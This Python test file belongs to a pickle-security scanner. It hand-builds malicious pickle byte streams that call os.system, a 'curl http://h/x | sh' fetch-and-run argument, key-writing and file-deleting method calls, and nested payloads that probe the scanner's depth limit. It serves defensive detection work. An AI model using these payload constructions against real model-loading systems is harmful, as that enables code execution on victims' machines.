"""Methods that are fetched by name and called, pickles among arguments, and factories of `defaultdict`."""

import gzip
import pickle

import pytest

from modelward.artifact.pickle import fetched, rules, words
from modelward.artifact.pickle.streams import scan
from modelward.artifact.verdict import inspect_bytes

P4 = b"\x80\x04"
EVIL0 = b"cos\nsystem\n(Vtrue\ntR."
EVIL4 = P4 + b"\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R."


def text(value):
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def name(module, qualname):
    return text(module) + text(qualname) + b"\x93"


def call(callee, *args):
    return callee + b"(" + b"".join(arg if isinstance(arg, bytes) else text(arg) for arg in args) + b"tR"


def method(owner, attribute, *args):
    return call(call(name("builtins", "getattr"), owner, attribute), *args)


def raw(value):
    return b"B" + len(value).to_bytes(4, "little") + value


def levels(data):
    return {event.level for event in scan(data).events}


def found(data):
    return {event.rule for event in scan(data).events if event.level == "dangerous"}


# --- methods ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("owner", "attribute", "args"), [
    (call(name("pathlib", "PosixPath"), "x"), "write_text", ("ssh-rsa AAAA",)),
    (call(name("pathlib", "PosixPath"), "x"), "unlink", ("y",)),
    (call(name("numpy", "arange"), b"K\x04"), "tofile", ("x",)),
    (call(name("pandas", "DataFrame"), b"}"), "to_csv", ("x",)),
    (call(name("acme", "Frame")), "to_parquet", ("x",)),
    (call(name("fsspec.implementations.local", "LocalFileSystem")), "rm", ("x",)),
    (call(name("fsspec.implementations.local", "LocalFileSystem")), "pipe_file", ("x", raw(b"y"))),
    (call(name("pipes", "Template")), "copy", ("/dev/null", "/dev/null")),
    (call(name("click._termui_impl", "Editor"), "true"), "edit_files", (b"(Vx\nt",)),
    (call(name("acme", "Store")), "save", ("x",)), (name("acme", "Store"), "dump", ("x",)),
    (call(name("acme", "Host")), "run_shell", ("curl http://h/x | sh",)),
    (call(name("acme", "Client")), "download", ("http://h/x",)),
    (method(call(name("acme", "A")), "inner"), "savez", ("x",)),
])  # fmt: skip
def test_a_method_that_acts_is_dangerous_when_it_is_called(owner, attribute, args):
    assert "pickle.fetched-call" in found(P4 + method(owner, attribute, *args) + b".")


@pytest.mark.parametrize(("owner", "attribute", "args"), [
    (call(name("acme", "Store")), "restore", ("x",)), (call(name("acme", "Store")), "save", (b"K\x01",)),
    (call(name("acme", "Store")), "save_format", ("h5",)), (call(name("acme", "Frame")), "to_dtype", ("int",)),
    (call(name("acme", "Frame")), "copy", ("x",)), (name("acme", "Frame"), "from_state", ("x",)),
])  # fmt: skip
def test_any_other_method_is_only_unknown(owner, attribute, args):
    assert levels(P4 + method(owner, attribute, *args) + b".") == {"unproven"}


@pytest.mark.parametrize(
    ("module", "caller"), [("builtins", "map"), ("functools", "partial"), ("functools", "partialmethod")]
)
def test_a_method_that_is_handed_on_is_as_dangerous(module, caller):
    path = call(name("pathlib", "PosixPath"), "x")
    for attribute, level in (("write_text", True), ("restore", False)):
        bound = call(name("builtins", "getattr"), path, attribute)
        made = call(name(module, caller), bound, b"(" + text("y") + b"t")
        assert ("pickle.fetched-call" in found(P4 + made + b".")) is level


def test_a_method_that_is_not_called_is_never_dangerous():
    kept = call(name("builtins", "getattr"), call(name("acme", "Frame")), "to_csv")
    assert levels(P4 + b"]" + kept + b"a.") == {"unproven"}


def test_what_a_payload_gives_stays_tainted():
    made = method(call(name("pathlib", "PosixPath"), "x"), "write_text", "y")
    events = scan(P4 + made + b"}" + text("a") + b"K\x01sb.").events
    assert {"pickle.fetched-call", "pickle.patched"} <= {event.rule for event in events}


@pytest.mark.parametrize(
    ("verb", "texts", "acts"),
    [
        ("tofile", ["x"], True),
        ("tofile", [], False),
        ("write_bytes", ["\0"], True),
        ("writer_name", ["x"], False),
        ("to_file", ["x"], True),
        ("pipe", ["x"], False),
        ("evaluate", ["f(1)"], True),
        ("evaluate", ["accuracy"], False),
    ],
)
def test_verbs(verb, texts, acts):
    assert bool(words.method(verb, texts)) is acts


@pytest.mark.parametrize(
    ("module", "function", "argument", "level"),
    [
        ("pandas", "to_pickle", "third-mark", "dangerous"),
        ("acme.io", "save", "weights.bin", "dangerous"),
        ("acme.io", "write_text", "x", "dangerous"),
        ("acme.io", "save", "a\nb", "unproven"),
        ("acme.io", "SaveModel", "x", "unproven"),
        ("acme.io", "save_mode", "x", "unproven"),
        ("acme.io", "to_dict", "x", "unproven"),
    ],
)
def test_functions_that_only_write_need_no_absolute_path(module, function, argument, level):
    data = P4 + name(module, function) + raw(argument.encode()) + b"\x85R."
    assert level in levels(data)
    assert level == "dangerous" or "dangerous" not in levels(data)


# --- pickles among arguments --------------------------------------------------------------------------------


@pytest.mark.parametrize("inner", [EVIL0, EVIL4, P4 + call(name("acme", "f"), raw(EVIL4)) + b"."])
@pytest.mark.parametrize("callee", [name("acme", "restore"), name("io", "BytesIO"), call(name("acme", "f"))])
def test_a_payload_in_a_pickle_that_an_unknown_call_is_given(inner, callee):
    data = P4 + call(callee, raw(inner)) + b"."
    assert "dangerous" in levels(data)
    assert inspect_bytes(data, "m.pkl").verdict == "dangerous"


def test_the_same_as_text():
    assert "dangerous" in levels(P4 + call(name("acme", "restore"), EVIL0.decode()) + b".")


@pytest.mark.parametrize(
    "inner",
    [pickle.dumps({"a": 1}), b"", b"\x80", b"cat\nsat on the mat", gzip.compress(b"x"), b"\x80\x04" * 50],
)
def test_bytes_without_a_payload_change_nothing(inner):
    assert levels(P4 + call(name("acme", "restore"), raw(inner)) + b".") == {"unproven"}


def test_bytes_that_a_known_call_stores_are_data():
    assert levels(pickle.dumps({"blob": EVIL4})) == set()
    assert levels(P4 + call(name("builtins", "bytearray"), raw(EVIL4)) + b".") == set()


def test_pickles_inside_each_other_end(monkeypatch):
    data = EVIL4
    for _ in range(9):
        data = P4 + call(name("acme", "f"), raw(data)) + b"."
    assert levels(data) == {"unproven"}
    many = b"".join(call(name("acme", f"f{at}"), raw(pickle.dumps(at))) + b"0" for at in range(40))
    monkeypatch.setattr(fetched, "WALKED", 40)
    assert "dangerous" not in levels(P4 + many + call(name("acme", "g"), raw(EVIL4)) + b".")
    monkeypatch.setattr(fetched, "WALKED", 41)
    assert "dangerous" in levels(P4 + many + call(name("acme", "g"), raw(EVIL4)) + b".")


# --- factories ----------------------------------------------------------------------------------------------

OUTER = name("collections", "defaultdict")


@pytest.mark.parametrize("factory", [
    name("nltk.probability", "ConditionalFreqDist"), name("deap.tools.support", "Logbook"), name("builtins", "list"),
    name("collections", "defaultdict"), call(name("functools", "partial"), name("nltk.probability", "FreqDist")),
])  # fmt: skip
def test_a_class_that_may_be_called_without_arguments_is_a_factory(factory):
    data = P4 + OUTER + factory + b"\x85R" + text("a") + b"K\x01s."
    assert levels(data) == set()


@pytest.mark.parametrize("factory", [
    name("acme", "Thing"), name("numpy", "save"), name("pathlib", "PosixPath") + b"0" + name("acme", "f"),
    call(name("functools", "partial"), name("nltk.probability", "ConditionalFreqDist"), b"K\x01"),
    call(name("functools", "partial"), name("collections", "defaultdict"), name("numpy", "save")),
    call(name("functools", "partial"), name("nltk.probability", "ConditionalFreqDist"), call(name("acme", "f"))),
    name("torch.nn.modules.linear", "Linear"),
])  # fmt: skip
def test_any_other_is_none(factory):
    assert levels(P4 + OUTER + factory + b"\x85R.") != set()


def test_listed_methods_of_a_fitter_may_be_kept():
    fitter = name("lifelines.fitters.nelson_aalen_fitter", "NelsonAalenFitter") + b")\x81"
    get = name("builtins", "getattr")
    assert levels(P4 + call(get, fitter, "_variance_f_smooth") + b".") == set()
    assert levels(P4 + call(get, fitter, "fit") + b".") == {"unproven"}
    assert levels(P4 + call(call(get, fitter, "_variance_f_smooth"), b"K\x01") + b".") == {"unproven"}


def test_views_of_a_graph_take_data_alone():
    for view, field in (("NodeView", "_nodes"), ("InEdgeView", "_adjdict")):
        assert rules.find("networkx.classes.reportviews", view).state == "fields"
        new = P4 + name("networkx.classes.reportviews", view) + b")\x81}" + text(field)
        assert levels(new + b"}sb.") == set()
        assert levels(new + name("builtins", "getattr") + b"sb.") != set()


# --- other names of a callable ------------------------------------------------------------------------------


@pytest.mark.parametrize(("module", "alias"), [
    ("torch.distributed.distributed_c10d", "_unpickler"), ("torch.distributed.rpc.internal", "_unpickler"),
    ("joblib.numpy_pickle_utils", "Unpickler"), ("xmlrpc.client", "Server"),
])  # fmt: skip
def test_what_a_module_calls_otherwise_is_still_known(module, alias):
    assert rules.gadget(module, alias) is not None
    assert "dangerous" in levels(P4 + call(name(module, alias), call(name("acme", "f"))) + b".")
